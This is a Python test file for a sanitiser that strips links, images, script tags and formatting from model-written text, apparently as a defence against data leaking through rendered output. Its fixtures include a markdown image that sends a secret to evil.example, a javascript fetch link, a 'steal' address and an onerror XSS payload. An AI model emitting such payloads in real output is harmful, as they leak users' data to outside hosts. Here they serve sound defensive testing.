"""What a model writes freely leaves as words."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from worker.untrusted.plain_text import has_address, plain


@pytest.mark.parametrize(
    ("said", "left"),
    [
        ("A beach ![](https://evil.example/?d=secret) at dusk.", "A beach at dusk."),
        ("See [the page](http://a.example/b) now", "See the page now"),
        ("What? [click][1] [1]: http://a.example", "What? click 1"),
        ("visit https://evil.example/a, then go", "visit then go"),
        ("Call at 15:00 (https://a.example/j/1)", "Call at 15:00"),
        ("mail mailto:x@y.example or evil.example/steal?x=1", "mail or"),
        ("[x](javascript:fetch('//evil.example'))", "x"),
        ("<img src=x onerror=alert(1)>cat", "cat"),
        ("&lt;script&gt;alert&lt;/script&gt;", "alert"),
        ("an open <script", "an open"),
        ("**Bold** `code` __strong__ ~~gone~~", "Bold code strong gone"),
        ("# Heading\n> quoted\n- item", "Heading > quoted - item"),
        ("one\u202e\u200b two", "one two"),
    ],
)
def test_what_can_be_clicked_or_rendered_is_gone(said: str, left: str) -> None:
    """Addresses, tags, links, pictures, emphasis; the words in them stay."""
    assert plain(said) == left


@pytest.mark.parametrize(
    "said",
    [
        "Node.js and C++, e.g. at 3.30pm on 14.12.2026",
        "Dr.Smith, and/or 5/6 of it, 10 km/h",
        "a < b and c > d, 5 * 3 = 15, snake_case",
        "Tel: 555, data: none, booking.com",
        "Ζώνη: 24/7 (δωρεάν), 日本!",
    ],
)
def test_usual_words_stay(said: str) -> None:
    """Dots, slashes and signs that lead nowhere are left alone."""
    assert plain(said) == said
    assert not has_address(said)


@given(st.text(alphabet="<>[]()!*`ahtp:/.w", max_size=60))
def test_nothing_is_put_together_by_cutting(said: str) -> None:
    """What is left has nothing more to cut, however the pieces were nested."""
    left = plain(said)
    assert plain(left) == left
    assert "http://" not in left
    assert "](" not in left
    assert "<a" not in left
